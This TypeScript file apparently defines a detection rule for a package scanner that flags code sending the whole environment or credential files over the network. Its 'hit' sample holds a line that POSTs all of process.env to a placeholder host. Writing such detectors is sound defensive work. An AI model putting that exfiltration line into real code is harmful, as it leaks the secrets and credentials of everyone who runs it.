import type { Rule } from '../rule';

export const codeSecretSent: Rule = {
  code: 'code-secret-sent',
  ecosystem: 'any',
  kind: 'code',
  severity: 'critical',
  verdict: 'malicious',
  tactic: 'exfiltration',
  capabilities: ['network', 'environment', 'credential-files'],
  languages: ['javascript', 'python'],
  summary: 'The whole environment, or a file that holds credentials, flows into what the code sends.',
  message: 'sends secrets of the machine away',
  pattern: { where: 'code', any: ['secret-sent'] },
  samples: {
    hits: [
      {
        what: 'the environment sent',
        format: 'tarball',
        files: {
          'index.js': 'fetch("https://a.invalid", { method: "POST", body: JSON.stringify(process.env) });',
        },
        verdict: 'malicious',
      },
    ],
    ignores: [
      {
        what: 'code that uses the network',
        format: 'wheel',
        files: {
          'sample/__init__.py':
            'import requests, os\ndef get(u):\n  return requests.get(u, headers={"a": os.environ["API_TOKEN"]})',
        },
        why: 'One credential, by its name, goes where its owner has it sent.',
        verdict: 'clean',
      },
    ],
  },
};
